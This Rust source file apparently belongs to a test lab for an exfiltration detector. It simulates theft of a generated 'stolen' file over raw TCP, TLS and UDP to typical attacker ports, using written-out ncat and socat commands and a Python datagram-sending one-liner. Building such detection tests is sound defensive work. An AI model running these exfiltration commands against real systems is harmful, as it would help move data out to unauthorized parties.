//! Uploads without any protocol that the port would suggest.

use std::fs;
use std::time::Duration;

use anyhow::{Result, ensure};
use detector_tests::{poll_until, wait_for_tcp_listener, wait_for_udp_listener};

use super::size_and_rate;
use crate::lab::random::Random;
use crate::lab::scene::{Outcome, Scene, ensure_arrived};

const START: Duration = Duration::from_secs(10);
const PORTS: [u16; 6] = [4444, 1337, 9001, 53, 8443, 5555];

/// `ncat` or `socat`, straight from a file.
pub(in crate::lab) fn tcp(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let (size, _) = size_and_rate(random, 20_000, 40_000_000);
    let port = *random.pick(&PORTS);
    let target = scene.target(random)?;
    let file = scene.document("stolen", &random.document(size))?;
    let receiver = format!("TCP6-LISTEN:{port},ipv6only=0,reuseaddr{}", bound(port, &target.address.to_string()));
    let _receiver = scene.internet().spawn("socat", ["-u", &receiver, &opened(scene)])?;
    wait_for_tcp_listener(scene.internet(), port, START)?;
    if random.chance(0.5) {
        scene.run("sh", &["-c", &format!("ncat --send-only {} {port} < {file}", target.address)])?;
    } else {
        scene.run("socat", &["-u", &format!("OPEN:{file}"), &format!("TCP:{}:{port}", target.url_host_of_address())])?;
    }
    wait_for(scene, size)?;
    Ok(Outcome::stolen(scene.culprit(&target, "tcp", Some(port))?, size, format!("{size} bytes to {}:{port}", target.address)))
}

/// The same inside TLS that names no host.
pub(in crate::lab) fn tls(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let (size, _) = size_and_rate(random, 20_000, 30_000_000);
    let port = *random.pick(&[4444_u16, 8443, 9001]);
    let target = scene.target(random)?;
    let file = scene.document("stolen", &random.document(size))?;
    let command = format!(
        "ncat --listen --ssl --ssl-cert {} --ssl-key {} --recv-only {port} > {}",
        scene.shared.path("tls.crt"),
        scene.shared.path("tls.key"),
        scene.inbox("got").display()
    );
    let _receiver = scene.internet().spawn("sh", ["-c", &command])?;
    wait_for_tcp_listener(scene.internet(), port, START)?;
    scene.run("sh", &["-c", &format!("ncat --ssl --send-only {} {port} < {file}", target.address)])?;
    wait_for(scene, size)?;
    Ok(Outcome::stolen(scene.culprit(&target, "tcp", Some(port))?, size, format!("{size} bytes to {}:{port}", target.address)))
}

/// Datagrams, at a steady rate and without repetition.
pub(in crate::lab) fn udp(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let datagram = random.between(300, 1_400) as usize;
    let count = random.between(60, 2_500) as usize;
    let port = *random.pick(&[4444_u16, 9001, 5004, 33_333]);
    let target = scene.target(random)?;
    let file = scene.document("stolen", &random.document(datagram * count))?;
    let _receiver = scene.internet().spawn("socat", ["-u", &format!("UDP6-RECV:{port},ipv6only=0,rcvbuf=4000000"), &opened(scene)])?;
    wait_for_udp_listener(scene.internet(), port, START)?;
    let pause = random.log_uniform(0.0005, 8.0 / count as f64);
    let script = "import socket,sys,time\nd=open(sys.argv[1],'rb').read();n=int(sys.argv[4]);s=socket.socket(socket.AF_INET6 if ':' in sys.argv[2] else socket.AF_INET,socket.SOCK_DGRAM)\nfor i in range(0,len(d),n):\n s.sendto(d[i:i+n],(sys.argv[2],int(sys.argv[3])));time.sleep(float(sys.argv[5]))";
    scene.run("python3", &["-c", script, &file, &target.address.to_string(), &port.to_string(), &datagram.to_string(), &pause.to_string()])?;
    std::thread::sleep(Duration::from_secs(1));
    let arrived = received(scene);
    ensure!(arrived * 100 >= datagram * count * 95, "{} bytes were sent and {arrived} arrived", datagram * count);
    Ok(Outcome::stolen(scene.culprit(&target, "udp", Some(port))?, arrived, format!("{count} datagrams of {datagram} bytes to {}:{port}", target.address)))
}

/// Where another server has the port on one address, the receiver takes the thief's address only.
fn bound(port: u16, address: &str) -> String {
    if port == 53 && !address.contains(':') { format!(",bind=[::ffff:{address}]") } else { String::new() }
}

fn opened(scene: &Scene<'_>) -> String {
    format!("OPEN:{},creat", scene.inbox("got").display())
}

fn received(scene: &Scene<'_>) -> usize {
    fs::metadata(scene.inbox("got")).map_or(0, |file| file.len() as usize)
}

fn wait_for(scene: &Scene<'_>, size: usize) -> Result<()> {
    poll_until(START, || (received(scene) >= size).then_some(())).ok();
    ensure_arrived(size, received(scene))
}
